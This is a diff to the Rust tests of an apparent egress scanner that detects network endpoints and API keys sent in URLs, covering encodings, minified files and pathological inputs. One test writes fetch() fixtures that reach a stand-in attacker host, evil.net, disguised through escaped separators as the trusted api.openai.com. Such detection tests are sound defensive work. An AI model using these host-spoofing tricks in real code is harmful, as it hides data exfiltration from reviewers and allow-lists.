@@ -62,7 +62,8 @@ pub fn hostile_corpus(depth: usize) -> Corpus {
         b"const caf\xe9 = \"na\xefve \xc3\xa9\";\nfetch(\"https://latin1.example.com/a\");\n".to_vec();
     latin1.extend_from_slice(b"// \xff\xfe\xfd broken tail\n");
     fs::write(root.join("latin1.ts"), latin1).unwrap();
-    // UTF-16 LE with BOM: NUL bytes everywhere, counted as binary.
+    // UTF-16 LE with BOM: NUL bytes everywhere; read lossily like any source
+    // file (no trigger word survives the NULs).
     let utf16: Vec<u8> = [0xFF, 0xFE]
         .into_iter()
         .chain(
@@ -208,8 +209,11 @@ fn hostile_repository_is_scanned_without_panic_or_hang() {
     assert!(has("bad-name.example.com"), "{urls:?}");
     // Symlinks are not followed, so nothing outside the root is read.
     assert!(!has("outside.example.com"), "{urls:?}");
+    // Source files are scanned whatever their bytes, minified or not.
+    assert!(has("nul.example.com"), "{urls:?}");
+    assert!(has("bundle.example.com"), "{urls:?}");
     // Skipped files contribute nothing.
-    for skipped in ["utf16", "nul.example", "bundle.example", "locked.example"] {
+    for skipped in ["utf16", "locked.example"] {
         if skipped == "locked.example" && !corpus.unreadable_is_unreadable {
             continue;
         }
@@ -217,9 +221,9 @@ fn hostile_repository_is_scanned_without_panic_or_hang() {
     }
 
     let skipped = &report["stats"]["files_skipped"];
-    assert_eq!(skipped["binary"], 2, "UTF-16 and NUL files: {skipped}");
+    assert_eq!(skipped["binary"], 0, "source files are never binary: {skipped}");
     assert_eq!(skipped["too_large"], 1, "the 50 MB file: {skipped}");
-    assert_eq!(skipped["minified"], 1, "the 5 MB bundle: {skipped}");
+    assert_eq!(skipped["minified"], 0, "minified files are scanned: {skipped}");
     assert_eq!(
         skipped["symlink_or_special"], 2,
         "escape.ts (symlink) and pipe.ts (FIFO): {skipped}"
@@ -308,4 +312,208 @@ fn runaway_parse_is_abandoned_and_counted() {
         urls.iter().any(|u| u.contains("after-loop.example.com")),
         "{urls:?}"
     );
+}
+
+/// Runs `scan -f json --no-cache` on `root` and parses the report.
+fn scan_report(root: &Path) -> serde_json::Value {
+    let stdout = run_scan(root, &["-f", "json", "--no-cache"]);
+    serde_json::from_slice(&stdout).expect("valid JSON")
+}
+
+/// `(file, host)` of every endpoint location.
+fn hosts_by_file(report: &serde_json::Value) -> Vec<(String, String)> {
+    let mut out: Vec<(String, String)> = report["endpoints"]
+        .as_array()
+        .expect("endpoints")
+        .iter()
+        .flat_map(|e| {
+            let host = e["host"].as_str().unwrap_or("").to_string();
+            e["locations"]
+                .as_array()
+                .into_iter()
+                .flatten()
+                .map(move |l| (l["file"].as_str().unwrap_or("").to_string(), host.clone()))
+        })
+        .collect();
+    out.sort();
+    out.dedup();
+    out
+}
+
+#[test]
+fn escaped_separators_do_not_turn_an_attacker_host_into_a_trusted_one() {
+    // Node connects to evil.net for each of these; the naive split saw
+    // api.openai.com (OpenAI, an allowed service).
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let cases: &[(&str, &str, &str)] = &[
+        ("u5c.ts", r#"fetch("https://evil.net\u005c@api.openai.com/v1/chat");"#, "evil.net"),
+        ("bs.ts", r#"fetch("https://evil.net\\@api.openai.com/");"#, "evil.net"),
+        ("u2f.ts", r#"fetch("https://evil.net\u002f@api.openai.com/");"#, "evil.net"),
+        ("brace.ts", r#"fetch("https://evil.net\u{5C}@api.openai.com/");"#, "evil.net"),
+        ("hex.ts", r#"fetch("https://evil.net\x5c@api.openai.com/");"#, "evil.net"),
+        ("tpl.ts", r#"fetch(`https://evil.net\u005c@api.openai.com/${path}`);"#, "evil.net"),
+        ("e.ts", r#"fetch("https://\u0065vil.net");"#, "evil.net"),
+        ("pct.ts", r#"fetch("https://api.openai.com%2eevil.net/");"#, "api.openai.com.evil.net"),
+        ("cont.ts", "fetch(\"https://evil\\\n.net/\");", "evil.net"),
+        (
+            "Evil.swift",
+            "let u = URL(string: \"https://evil.net\\u{5C}@api.openai.com/v1\")!\nURLSession.shared.dataTask(with: u)\n",
+            "evil.net",
+        ),
+        (
+            "Evil.kt",
+            "import okhttp3.OkHttpClient\nimport okhttp3.Request\nfun main() {\n    OkHttpClient().newCall(Request.Builder().url(\"https://evil.net\\u005C@api.openai.com/v1\").build()).execute()\n}\n",
+            "evil.net",
+        ),
+    ];
+    for (name, text, _) in cases {
+        fs::write(root.join(name), format!("{text}\n")).unwrap();
+    }
+    // Placeholder hosts keep working.
+    fs::write(
+        root.join("placeholder.ts"),
+        "export function get(host: string) { return fetch(`https://${host}:8443/v1`); }\n\
+         export const api = (id: string) => fetch(`https://api.openai.com/v1/${id}`);\n",
+    )
+    .unwrap();
+    let report = scan_report(root);
+    let hosts = hosts_by_file(&report);
+    for (name, _, host) in cases {
+        let found: Vec<&str> = hosts
+            .iter()
+            .filter(|(f, _)| f == name)
+            .map(|(_, h)| h.as_str())
+            .collect();
+        assert_eq!(found, vec![*host], "{name}: {hosts:?}");
+    }
+    let placeholder: Vec<&str> = hosts
+        .iter()
+        .filter(|(f, _)| f == "placeholder.ts")
+        .map(|(_, h)| h.as_str())
+        .collect();
+    assert_eq!(placeholder, vec!["api.openai.com"], "{hosts:?}");
+    let urls = strings(&report, "endpoints", "url");
+    assert!(
+        urls.iter().all(|u| !u.to_ascii_lowercase().contains("u005c")),
+        "escapes are decoded: {urls:?}"
+    );
+}
+
+#[test]
+fn source_files_are_scanned_whatever_their_bytes_and_case() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    // One NUL in a comment.
+    fs::write(
+        root.join("nul.js"),
+        b"// build \0 marker\nfetch(\"https://nul-comment.example.net/x\");\n",
+    )
+    .unwrap();
+    // Seven lines, one of them a long data URI.
+    let data_uri = format!("const icon = \"data:image/png;base64,{}\";", "QUJD".repeat(2_000));
+    fs::write(
+        root.join("icon.js"),
+        format!("// icons\n{data_uri}\n\nexport function ping() {{\n  return fetch(\"https://data-uri.example.net/x\");\n}}\n// end\n"),
+    )
+    .unwrap();
+    // Upper-case extensions.
+    fs::write(root.join("x.JS"), "fetch(\"https://upper-js.example.net/x\");\n").unwrap();
+    fs::write(root.join("y.TS"), "fetch(\"https://upper-ts.example.net/x\");\n").unwrap();
+    let report = scan_report(root);
+    let hosts: Vec<String> = hosts_by_file(&report).into_iter().map(|(_, h)| h).collect();
+    for host in [
+        "nul-comment.example.net",
+        "data-uri.example.net",
+        "upper-js.example.net",
+        "upper-ts.example.net",
+    ] {
+        assert!(hosts.iter().any(|h| h == host), "{host}: {hosts:?}");
+    }
+    let skipped = &report["stats"]["files_skipped"];
+    assert_eq!(skipped["binary"], 0, "{skipped}");
+    assert_eq!(skipped["minified"], 0, "{skipped}");
+    assert_eq!(report["stats"]["files_parsed"], 4, "{}", report["stats"]);
+}
+
+#[test]
+fn invalid_utf8_in_a_literal_keeps_the_literal_and_its_finding() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(
+        dir.path().join("latin.ts"),
+        b"export function send(apiKey: string) {\n  return fetch(\"https://latin1.example.net/caf\xe9?key=\" + apiKey);\n}\n",
+    )
+    .unwrap();
+    let report = scan_report(dir.path());
+    let hosts = hosts_by_file(&report);
+    assert_eq!(
+        hosts,
+        vec![("latin.ts".to_string(), "latin1.example.net".to_string())],
+        "{report}"
+    );
+    let findings = crate::common::findings(&report, "egress/token-in-url");
+    assert_eq!(findings.len(), 1, "{report}");
+    assert_eq!(report["stats"]["files_parsed"], 1, "{}", report["stats"]);
+}
+
+#[test]
+fn long_concatenation_chains_keep_the_scheme_and_host() {
+    for empties in [2, 47, 500] {
+        let dir = tempfile::tempdir().unwrap();
+        fs::write(
+            dir.path().join("chain.ts"),
+            format!(
+                "export function send(apiKey: string) {{\n  return fetch(\"https://chain.example.net/v1?key=\" + apiKey{});\n}}\n",
+                " + \"\"".repeat(empties)
+            ),
+        )
+        .unwrap();
+        let report = scan_report(dir.path());
+        let hosts = hosts_by_file(&report);
+        assert_eq!(
+            hosts,
+            vec![("chain.ts".to_string(), "chain.example.net".to_string())],
+            "{empties}: {report}"
+        );
+        let findings = crate::common::findings(&report, "egress/token-in-url");
+        assert_eq!(findings.len(), 1, "{empties}: {report}");
+        assert_eq!(findings[0]["severity"], "high", "{empties}: {report}");
+    }
+}
+
+#[test]
+fn extraction_of_pathological_files_is_bounded_and_counted() {
+    // Under 2 MiB each: a 100,000-term `+` chain and `f()()()…` 200,000
+    // deep used to keep tree-sitter's query cursor busy for minutes.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    fs::write(
+        root.join("plus.ts"),
+        format!(
+            "const u = \"https://c.x.net/?k=\"\n{};\nfetch(u);\n",
+            " + \"a\"\n".repeat(100_000)
+        ),
+    )
+    .unwrap();
+    fs::write(
+        root.join("calls.ts"),
+        format!("fetch(\"https://calls.x.net/\");\nf{};\n", "()\n".repeat(200_000)),
+    )
+    .unwrap();
+    // Wide, not deep: every literal argument names the same call.
+    fs::write(
+        root.join("args.ts"),
+        format!(
+            "fetch(\"https://args.x.net/\");\nf({});\n",
+            "\"a\",\n".repeat(100_000)
+        ),
+    )
+    .unwrap();
+    fs::write(root.join("ok.ts"), "fetch(\"https://ok.x.net/\");\n").unwrap();
+    let report = scan_report(root);
+    let stats = &report["stats"];
+    assert_eq!(stats["files_skipped"]["parse_abandoned"], 2, "{stats}");
+    assert_eq!(stats["files_parsed"], 2, "{stats}");
+    let hosts: Vec<String> = hosts_by_file(&report).into_iter().map(|(_, h)| h).collect();
+    assert_eq!(hosts, vec!["args.x.net", "ok.x.net"], "{hosts:?}");
 }
